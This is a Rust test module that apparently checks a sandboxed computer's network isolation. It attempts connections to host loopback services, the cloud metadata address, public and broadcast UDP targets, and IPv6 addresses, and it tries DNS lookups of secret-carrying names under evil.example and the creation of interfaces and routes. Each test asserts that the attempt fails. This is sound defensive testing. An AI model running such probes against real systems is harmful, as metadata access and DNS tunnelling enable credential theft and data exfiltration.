//! Attacks on the network without a proxy between: what a computer with no network reaches.

use std::net::{TcpListener, UdpSocket};

use super::{held, python, small};
use crate::bench::output;

/// Connects to each, and prints what came of it.
const CONNECT: &str = "import socket\ndef connect(family, kind, address):\n s = socket.socket(family, kind); s.settimeout(3)\n try:\n  s.connect(address)\n  if kind == socket.SOCK_DGRAM: s.send(b'x')\n  return 'connected'\n except OSError as error: return str(error)\n";

both! {
    async fn services_on_the_hosts_loopback(bench: Bench) {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let computer = bench.limited(small()).await;
        let script = format!("{CONNECT}print(connect(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', {port})))");
        let said = python(computer.as_ref(), &script).await;
        assert!(said.contains("refused"), "{said}");
        listener.set_nonblocking(true).unwrap();
        assert!(listener.accept().is_err());
        held("a service on the host's loopback", "a network namespace of its own", said);
    }

    async fn the_cloud_s_metadata(bench: Bench) {
        let computer = bench.limited(small()).await;
        let script = format!("{CONNECT}print(connect(socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80)), connect(socket.AF_INET6, socket.SOCK_STREAM, ('fd00:ec2::254', 80)), sep='\\n')");
        let said = python(computer.as_ref(), &script).await;
        assert!(said.lines().all(|line| line.contains("unreachable")), "{said}");
        held("the metadata address", "no interface but loopback", said);
    }

    async fn datagrams_and_version_6(bench: Bench) {
        let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let computer = bench.limited(small()).await;
        let script = format!("{CONNECT}for a in ('192.0.2.1', '8.8.8.8', '255.255.255.255', '224.0.0.1'): print(connect(socket.AF_INET, socket.SOCK_DGRAM, (a, {port})))\nfor a in ('2001:db8::1', '::ffff:192.0.2.1', '64:ff9b::1'): print(connect(socket.AF_INET6, socket.SOCK_DGRAM, (a, {port})))");
        let said = python(computer.as_ref(), &script).await;
        assert!(!said.contains("connected"), "{said}");
        socket.set_nonblocking(true).unwrap();
        assert!(socket.recv_from(&mut [0; 8]).is_err());
        held("UDP, broadcast, multicast, IPv6", "no interface but loopback", said);
    }

    async fn names_that_carry_secrets(bench: Bench) {
        let computer = bench.limited(small()).await;
        let script = "import socket\nfor name in ('c2VjcmV0.evil.example', 'x' * 60 + '.evil.example'):\n try: print(socket.getaddrinfo(name, 80))\n except OSError as error: print(error)";
        let said = python(computer.as_ref(), script).await;
        assert!(!said.contains("AF_INET"), "{said}");
        held("DNS tunnelling", "no resolver reaches out", said);
    }

    async fn an_interface_of_its_own(bench: Bench) {
        let computer = bench.limited(small()).await;
        let said = output(computer.as_ref(), "(ip link add x type dummy; ip addr add 10.0.0.1/8 dev lo; ip route add default dev lo) 2>&1; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '").await;
        assert_eq!(said.lines().last(), Some("lo"), "{said}");
        held("an interface or a route of its own", "no CAP_NET_ADMIN", said);
    }
}
